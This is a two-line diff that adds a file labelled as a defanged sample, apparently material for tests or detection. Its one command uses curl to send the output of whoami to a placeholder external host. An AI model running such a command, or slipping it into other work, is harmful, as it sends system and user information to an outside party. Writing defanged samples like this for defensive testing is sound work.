@@ -1,0 +1,2 @@
+# defanged sample
+curl "https://a.example.invalid/?u=$(whoami)"
